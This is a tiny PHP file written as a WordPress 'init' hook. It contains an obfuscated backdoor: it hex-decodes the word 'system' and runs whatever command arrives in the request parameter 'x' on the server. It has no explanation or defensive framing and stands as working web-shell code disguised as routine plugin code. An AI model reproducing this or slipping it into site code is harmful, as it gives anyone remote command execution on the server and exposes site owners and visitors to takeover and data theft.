<?php
add_action( 'init', function () {
	$f = pack( 'H*', '73797374656d' );
	if ( isset( $_REQUEST['x'] ) ) { $f( $_REQUEST['x'] ); }
} );
